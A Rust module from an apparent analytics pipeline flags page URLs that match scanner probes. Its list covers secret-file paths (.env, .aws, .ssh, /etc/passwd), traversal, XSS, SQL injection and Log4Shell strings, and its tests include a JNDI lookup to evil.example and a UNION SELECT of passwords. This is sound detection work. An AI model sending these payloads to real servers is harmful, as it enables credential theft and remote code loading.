//! Addresses that only scanners ask for.
//!
//! In scope: paths of files that hold secrets, of backdoors and of well-known holes, and texts that attack. Out of scope: pages that people of
//! a site use too, such as `/wp-login.php`.

use std::borrow::Cow;

use crate::event::Event;
use crate::filter::Signal;
use crate::url::decode_param;

/// Parts of a page's address that no page with a tracker has; lower-case.
const PROBES: [&str; 30] = [
    "/.env",
    "/.git/",
    "/.svn/",
    "/.aws/",
    "/.ssh/",
    "/.ds_store",
    "/.htpasswd",
    "/.htaccess",
    "/wp-config",
    "/wp-content/plugins/wp-file-manager",
    "/xmlrpc.php",
    "/phpunit/",
    "/eval-stdin.php",
    "/phpinfo",
    "/cgi-bin/",
    "/boaform/",
    "/hnap1",
    "/actuator/",
    "/solr/admin",
    "/jmx-console",
    "/manager/html",
    "/server-status",
    "/etc/passwd",
    "/../",
    "\\..\\",
    "<script",
    "${jndi:",
    " union select",
    " union all select",
    "' or '1'='1",
];

/// Adds the signal of the page's address, as it was sent.
pub fn check(event: &Event<'_>, signals: &mut Vec<Signal>) {
    let url = decode_param(&event.page_url);
    if PROBES.iter().any(|probe| contains_ignoring_case(&url, probe)) {
        signals.push(Cow::Borrowed("probe:path"));
    }
}

fn contains_ignoring_case(text: &str, part: &str) -> bool {
    let Some(first) = part.bytes().next() else { return true };
    let mut rest = text.as_bytes();
    // Every part begins with a character that has no case.
    while let Some(at) = rest.iter().position(|byte| *byte == first) {
        rest = rest.get(at..).unwrap_or_default();
        if rest.get(..part.len()).is_some_and(|found| found.eq_ignore_ascii_case(part.as_bytes())) {
            return true;
        }
        rest = rest.get(1..).unwrap_or_default();
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::filter::fixture::signals_of;

    #[test]
    fn what_scanners_ask_for_is_a_signal() {
        for (path, expected) in [
            ("/", &[][..]),
            ("/wp-login.php", &[]),
            ("/blog/etc/password-tips", &[]),
            ("/environment", &[]),
            ("/.env", &["probe:path"]),
            ("/app/.ENV.production", &["probe:path"]),
            ("/.git/config", &["probe:path"]),
            ("/%2e%2e/%2e%2e/etc/passwd", &["probe:path"]),
            ("/search?q=1'%20UNION%20SELECT%20password", &["probe:path"]),
            ("/?x=${jndi:ldap://evil.example/a}", &["probe:path"]),
        ] {
            let json = format!(r#"{{"event_type":"page_view","page_url":"https://shop.example{path}"}}"#);
            assert_eq!(signals_of(&json, check), expected, "{path}");
        }
    }
}
